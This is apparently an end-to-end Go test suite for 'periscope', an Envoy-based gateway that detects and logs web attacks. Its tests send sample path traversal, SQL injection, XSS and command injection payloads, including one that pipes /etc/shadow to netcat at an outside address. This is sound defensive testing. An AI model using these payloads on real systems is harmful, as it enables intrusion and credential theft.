// Package e2e tests the whole path with the built binary, a real Envoy and a
// real browser.
package e2e

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/periscope-mesh/periscope/test/envoytest"
)

// program is the command under test, built once.
var program string

func TestMain(m *testing.M) {
	os.Exit(func() int {
		dir, err := os.MkdirTemp("", "periscope-e2e")
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		defer os.RemoveAll(dir)
		program = filepath.Join(dir, "periscope")
		build := exec.Command("go", "build", "-o", program, "../../cmd/periscope")
		if out, err := build.CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "build: %v\n%s", err, out)
			return 1
		}
		return m.Run()
	}())
}

// process is a running periscope.
type process struct {
	t    *testing.T
	cmd  *exec.Cmd
	mu   sync.Mutex
	out  bytes.Buffer // both outputs
	done chan struct{}
	code int
}

// start runs periscope with arguments; it is stopped with the test.
func start(t *testing.T, args ...string) *process {
	t.Helper()
	return startCommand(t, exec.Command(program, args...))
}

func startCommand(t *testing.T, cmd *exec.Cmd) *process {
	t.Helper()
	p := &process{t: t, cmd: cmd, done: make(chan struct{})}
	pipe, err := p.cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	p.cmd.Stderr = p.cmd.Stdout
	p.cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGTERM}
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		defer close(p.done)
		for s := bufio.NewScanner(pipe); s.Scan(); {
			p.mu.Lock()
			p.out.Write(append(s.Bytes(), '\n'))
			p.mu.Unlock()
		}
		_ = p.cmd.Wait()
		p.code = p.cmd.ProcessState.ExitCode()
	}()
	t.Cleanup(func() {
		p.stop(syscall.SIGTERM)
		if t.Failed() {
			t.Logf("%v:\n%s", cmd, p.output())
		}
	})
	return p
}

func (p *process) output() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.out.String()
}

// stop signals the process and waits for its end.
func (p *process) stop(sig syscall.Signal) {
	_ = p.cmd.Process.Signal(sig)
	select {
	case <-p.done:
	case <-time.After(15 * time.Second):
		_ = p.cmd.Process.Kill()
		<-p.done
		p.t.Errorf("periscope did not end within 15 s of %v", sig)
	}
}

// waitFor waits until the output has a text.
func (p *process) waitFor(text string) {
	p.t.Helper()
	envoytest.Eventually(p.t, 30*time.Second, fmt.Sprintf("the output has %q", text), func() bool {
		select {
		case <-p.done:
			p.t.Fatalf("periscope ended with code %d:\n%s", p.code, p.output())
		default:
		}
		return strings.Contains(p.output(), text)
	})
}

// rig is periscope up on ports of its own.
type rig struct {
	*process
	http, https, console, xds, debug, nodeListen, nodeAdmin, nodeORCA, dataDir string
}

func newRig(t *testing.T) *rig {
	envoytest.Path(t)
	return &rig{
		http: envoytest.FreeAddr(t), https: envoytest.FreeAddr(t), console: envoytest.FreeAddr(t), xds: envoytest.FreeAddr(t),
		debug: envoytest.FreeAddr(t), nodeListen: envoytest.FreeAddr(t), nodeAdmin: envoytest.FreeAddr(t), nodeORCA: envoytest.FreeAddr(t), dataDir: t.TempDir(),
	}
}

// up starts periscope up with further arguments and waits until it serves.
func (r *rig) up(t *testing.T, args ...string) *rig {
	t.Helper()
	r.process = start(t, append([]string{"up", "--envoy", envoytest.Path(t), "--data", r.dataDir, "--http", r.http, "--https", r.https, "--console", r.console,
		"--xds", r.xds, "--debug", r.debug, "--node-listen", r.nodeListen, "--node-admin", r.nodeAdmin, "--node-orca", r.nodeORCA, "--orca-port", portOf(r.nodeORCA), "--concurrency", "1"}, args...)...)
	r.waitFor("Periscope is up.")
	return r
}

func portOf(addr string) string {
	_, port, _ := net.SplitHostPort(addr)
	return port
}

// nodeArgs are those of periscope node, as a process of its own.
func (r *rig) nodeArgs() []string {
	return []string{"node", "--node-listen", r.nodeListen, "--node-admin", r.nodeAdmin, "--node-orca", r.nodeORCA, "--control", r.xds, "--data", r.dataDir}
}

type attackRow struct {
	ID       string `json:"id"`
	Type     string `json:"type"`
	Severity string `json:"severity"`
	Gateway  string `json:"gateway"`
	Client   string `json:"client"`
	Method   string `json:"method"`
	Path     string `json:"path"`
	Payload  string `json:"payload"`
	Status   int    `json:"status"`
	Hits     int64  `json:"hits"`
	RuleIDs  []int  `json:"ruleIds"`
	Location struct {
		Place string `json:"place"`
		Name  string `json:"name"`
	} `json:"location"`
	Last time.Time `json:"last"`
}

func (r *rig) attacks(t *testing.T) []attackRow {
	t.Helper()
	var page struct {
		Attacks []attackRow `json:"attacks"`
	}
	getJSON(t, "http://"+r.console+"/api/v1/attacks?limit=100", &page)
	return page.Attacks
}

// attack waits a second, as promised, for the attacks that ok accepts.
func (r *rig) attack(t *testing.T, what string, ok func(attackRow) bool) attackRow {
	t.Helper()
	var found attackRow
	envoytest.Eventually(t, time.Second, what+" is in the list of attacks", func() bool {
		for _, a := range r.attacks(t) {
			if ok(a) {
				found = a
				return true
			}
		}
		return false
	})
	return found
}

func getJSON(t *testing.T, url string, v any) {
	t.Helper()
	status, body := get(t, url)
	if status != http.StatusOK {
		t.Fatalf("%s: %d %s", url, status, body)
	}
	if err := json.Unmarshal([]byte(body), v); err != nil {
		t.Fatalf("%s: %v in %s", url, err, body)
	}
}

func get(t *testing.T, url string) (int, string) {
	t.Helper()
	res, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, string(body)
}

// metric gives a series' value, 0 when it does not exist.
func metric(t *testing.T, addr, series string) float64 {
	t.Helper()
	_, body := get(t, "http://"+addr+"/metrics")
	for line := range strings.Lines(body) {
		if v, ok := strings.CutPrefix(line, series+" "); ok {
			var f float64
			_, _ = fmt.Sscan(v, &f)
			return f
		}
	}
	return 0
}

func send(t *testing.T, client *http.Client, method, url, contentType, body string, headers map[string]string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	res, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	got, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res, string(got)
}

// The newcomer's first minute.
func TestAttackIsRegistered(t *testing.T) {
	r := newRig(t).up(t)
	status, body := get(t, "http://"+r.http+"/etc/passwd")
	if status != http.StatusNotFound || strings.TrimSpace(body) != `{"error":"not found"}` {
		t.Errorf("the user got %d %s, not the upstream's own answer", status, body)
	}
	a := r.attack(t, "path traversal", func(a attackRow) bool { return a.Type == "path-traversal" })
	if a.Severity != "critical" || a.Gateway != "default/gateway" || a.Client != "127.0.0.1" || a.Status != 404 || a.Hits != 1 || len(a.RuleIDs) == 0 || !strings.Contains(a.Payload, "etc/passwd") || a.Location.Place != "path" {
		t.Errorf("the attack: %+v", a)
	}
	if time.Since(a.Last).Abs() > time.Minute {
		t.Errorf("last seen %v", a.Last)
	}
	// The same again, to the letter: one attack, two hits.
	get(t, "http://"+r.http+"/etc/passwd")
	r.attack(t, "the second hit", func(b attackRow) bool { return b.ID == a.ID && b.Hits == 2 })
	if n := len(r.attacks(t)); n != 1 {
		t.Errorf("%d attacks, want one with two hits", n)
	}
	if log := r.output(); strings.Count(log, "attack registered") != 1 || !strings.Contains(log, "attack="+a.ID) {
		t.Errorf("want one log line for the attack %s", a.ID)
	}
	// What Envoy refuses, and no filter sees, is registered too.
	c, err := net.Dial("tcp", r.http)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, "GET /x?file=../../etc/shadow HTTP/1.1\r\n\r\n"); err != nil { // no host
		t.Fatal(err)
	}
	refused := r.attack(t, "the refused request", func(a attackRow) bool { return a.Location.Name == "file" })
	if refused.Gateway != "default/gateway" || refused.Client != "127.0.0.1" || refused.Status != 400 || refused.Method != "GET" {
		t.Errorf("the refused request: %+v", refused)
	}
	if _, body := get(t, "http://"+r.console+"/attacks/"+refused.ID); !strings.Contains(body, "missing_host_header") {
		t.Error("its page does not say why")
	}
	// And every exchange is accounted for, from the gateway to the store.
	var ledger struct {
		Steps []struct {
			Count      int
			Difference int
		}
	}
	envoytest.Eventually(t, 5*time.Second, "the ledger has both exchanges, and no difference", func() bool {
		getJSON(t, "http://"+r.debug+"/debug/ledgerz", &ledger)
		for i, want := range []int{2, 2, 2, 1, 3} { // seen, batches, mirrored, logged, taken
			if len(ledger.Steps) != 6 || ledger.Steps[i].Count != want || ledger.Steps[i].Difference != 0 {
				return false
			}
		}
		return ledger.Steps[5].Count >= 3
	})
}

func TestPlacesAndTypes(t *testing.T) {
	r := newRig(t).up(t)
	const lfi, sqli, xss, rce = "../../../etc/passwd", "1' OR '1'='1' UNION SELECT password FROM users--", "<script>alert(1)</script>", "; cat /etc/shadow | nc 10.0.0.1 99"
	quote := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	for _, tc := range []struct {
		name, want, place, key    string
		method, path, ctype, body string
		headers                   map[string]string
	}{
		{name: "traversal in a query parameter", want: "path-traversal", place: "query", key: "file", method: "GET", path: "/a1?file=" + url.QueryEscape(lfi)},
		{name: "traversal in a JSON body", want: "path-traversal", place: "json", key: "doc.file", method: "POST", path: "/a2", ctype: "application/json", body: `{"doc":{"file":` + quote(lfi) + `}}`},
		{name: "traversal in a form body", want: "path-traversal", place: "form", key: "file", method: "POST", path: "/a3", ctype: "application/x-www-form-urlencoded", body: "x=1&file=" + url.QueryEscape(lfi)},
		{name: "traversal in a header", want: "path-traversal", place: "header", key: "x-file", method: "GET", path: "/a4", headers: map[string]string{"X-File": "/etc/passwd"}},
		{name: "traversal in a cookie", want: "path-traversal", place: "cookie", key: "file", method: "GET", path: "/a5", headers: map[string]string{"Cookie": "a=b; file=/etc/passwd"}},
		{name: "SQL injection in a query parameter", want: "sql-injection", place: "query", key: "id", method: "GET", path: "/b1?id=" + url.QueryEscape(sqli)},
		{name: "SQL injection in a JSON body", want: "sql-injection", place: "json", key: "id", method: "POST", path: "/b2", ctype: "application/json", body: `{"id":` + quote(sqli) + `}`},
		{name: "XSS in a query parameter", want: "xss", place: "query", key: "q", method: "GET", path: "/c1?q=" + url.QueryEscape(xss)},
		{name: "XSS in a form body", want: "xss", place: "form", key: "q", method: "POST", path: "/c2", ctype: "application/x-www-form-urlencoded", body: "q=" + url.QueryEscape(xss)},
		{name: "command injection in a query parameter", want: "command-injection", place: "query", key: "host", method: "GET", path: "/d1?host=" + url.QueryEscape("127.0.0.1"+rce)},
		{name: "command injection in a JSON body", want: "command-injection", place: "json", key: "host", method: "POST", path: "/d2", ctype: "application/json", body: `{"host":` + quote("127.0.0.1"+rce) + `}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			send(t, http.DefaultClient, tc.method, "http://"+r.http+tc.path, tc.ctype, tc.body, tc.headers)
			path, _, _ := strings.Cut(tc.path, "?")
			a := r.attack(t, tc.name, func(a attackRow) bool { return a.Path == path })
			if a.Type != tc.want || a.Location.Place != tc.place || !strings.Contains(a.Location.Name, tc.key) {
				t.Errorf("got %s in %s %q, want %s in %s %q (rules %v)", a.Type, a.Location.Place, a.Location.Name, tc.want, tc.place, tc.key, a.RuleIDs)
			}
			// One exchange with one payload is one attack.
			same := 0
			for _, b := range r.attacks(t) {
				if b.Path == path {
					same++
				}
			}
			if same != 1 {
				t.Errorf("%d attacks for one payload", same)
			}
		})
	}
}

func TestTLSAndHTTP2(t *testing.T) {
	r := newRig(t).up(t)
	for _, proto := range []string{"HTTP/1.1", "HTTP/2.0"} {
		transport := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, ForceAttemptHTTP2: proto == "HTTP/2.0"} //nolint:gosec // self-signed by design
		if proto == "HTTP/1.1" {
			transport.Protocols = new(http.Protocols)
			transport.Protocols.SetHTTP1(true)
		}
		res, body := send(t, &http.Client{Transport: transport}, "GET", "https://"+r.https+"/"+proto+"/etc/passwd", "", "", nil)
		transport.CloseIdleConnections()
		if res.Proto != proto || res.StatusCode != 404 || !strings.Contains(body, "not found") {
			t.Errorf("user got %s %d %s", res.Proto, res.StatusCode, body)
		}
		a := r.attack(t, "the attack by "+proto, func(a attackRow) bool { return strings.Contains(a.Path, proto) })
		var detail struct {
			Hits []struct {
				Exchange struct{ Protocol, TLS, Scheme string } `json:"exchange"`
			} `json:"hits"`
		}
		getJSON(t, "http://"+r.console+"/api/v1/attacks/"+a.ID+"/hits", &detail)
		if len(detail.Hits) != 1 || !strings.HasPrefix(detail.Hits[0].Exchange.TLS, "TLSv1") || detail.Hits[0].Exchange.Scheme != "https" {
			t.Errorf("%+v", detail)
		}
	}
}

func TestUpstreamOfTheUsers(t *testing.T) {
	// A server with an answer that a proxy might touch.
	l := envoytest.FreeAddr(t)
	srv := &http.Server{Addr: l, Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		body, _ := io.ReadAll(req.Body)
		w.Header()["X-Echo"] = []string{req.URL.RequestURI(), req.Host, string(body)}
		w.Header().Set("Server", "mine/1.0")
		w.WriteHeader(418)
		_, _ = w.Write([]byte("\x00\xffteapot"))
	})}
	go func() { _ = srv.ListenAndServe() }()
	t.Cleanup(func() { _ = srv.Close() })
	r := newRig(t).up(t, "--upstream", "http://"+l)
	res, body := send(t, http.DefaultClient, "POST", "http://"+r.http+"/a/../b?x=%2e", "text/plain", "hello", nil)
	want := []string{"/a/../b?x=%2e", r.http, "hello"}
	if res.StatusCode != 418 || body != "\x00\xffteapot" || res.Header.Get("Server") != "mine/1.0" || fmt.Sprint(res.Header["X-Echo"]) != fmt.Sprint(want) {
		t.Errorf("got %d %q %v", res.StatusCode, body, res.Header)
	}
	for name := range res.Header {
		if strings.HasPrefix(strings.ToLower(name), "x-envoy") {
			t.Errorf("the answer has a header of Envoy's: %s", name)
		}
	}
}

func TestDebugPages(t *testing.T) {
	r := newRig(t).up(t)
	var names []string
	getJSON(t, "http://"+r.debug+"/debug/list", &names)
	for _, want := range []string{"policyz", "configz", "syncz"} {
		var v any
		getJSON(t, "http://"+r.debug+"/debug/"+want+"?pretty", &v)
		if !strings.Contains(strings.Join(names, " "), want) {
			t.Errorf("list lacks %s: %v", want, names)
		}
	}
	var sync []struct {
		Proxy     string `json:"proxy"`
		Resources map[string]struct {
			Sent, Acked, LastError string
		} `json:"resources"`
	}
	envoytest.Eventually(t, 5*time.Second, "the gateway has acknowledged everything", func() bool {
		getJSON(t, "http://"+r.debug+"/debug/syncz", &sync)
		for _, s := range sync {
			if !strings.HasPrefix(s.Proxy, "gateway~") {
				continue
			}
			for _, res := range s.Resources {
				if res.Sent == "" || res.Sent != res.Acked || res.LastError != "" {
					return false
				}
			}
			return len(s.Resources) == 5
		}
		return false
	})
	for addr, paths := range map[string][]string{r.debug: {"/debug", "/ready", "/metrics", "/version"}, r.nodeAdmin: {"/live", "/ready", "/metrics", "/debug", "/debug/pprof/", "/debug/ingestz"}} {
		for _, p := range paths {
			if status, body := get(t, "http://"+addr+p); status != 200 || body == "" {
				t.Errorf("%s: %d %s", p, status, body)
			}
		}
	}
	req, _ := http.NewRequest("GET", "http://"+r.debug+"/debug/policyz", nil)
	req.Host = "evil.example"
	if res, err := http.DefaultClient.Do(req); err != nil || res.StatusCode != http.StatusMisdirectedRequest {
		t.Errorf("a foreign Host header: %v %v", res, err)
	}
}

// A port that somebody else has is an error at once, by the flag's name.
func TestPortInUse(t *testing.T) {
	r := newRig(t)
	l, err := net.Listen("tcp", r.http)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	out, err := exec.CommandContext(t.Context(), program, "up", "--envoy", envoytest.Path(t), "--data", r.dataDir, "--http", r.http, "--https", "").CombinedOutput()
	if err == nil || !strings.Contains(string(out), "--http") || !strings.Contains(string(out), "address already in use") {
		t.Errorf("%v: %s", err, out)
	}
}

func TestInsecureListenIsShown(t *testing.T) {
	r := newRig(t).up(t, "--insecure-listen", "0.0.0.0:0")
	if !strings.Contains(r.output(), "mirrored traffic is taken from anybody") {
		t.Error("it is not logged")
	}
	if _, body := get(t, "http://"+r.debug+"/debug"); !strings.Contains(body, "insecure") {
		t.Errorf("it is not on /debug: %s", body)
	}
	get(t, "http://"+r.http+"/etc/passwd")
	r.attack(t, "the attack", func(a attackRow) bool { return a.Type == "path-traversal" })
	out, err := exec.CommandContext(t.Context(), program, "node", "--node-listen", "0.0.0.0:0", "--data", t.TempDir()).CombinedOutput()
	if err == nil || !strings.Contains(string(out), "--insecure-listen") {
		t.Errorf("a node on all addresses: %v %s", err, out)
	}
}
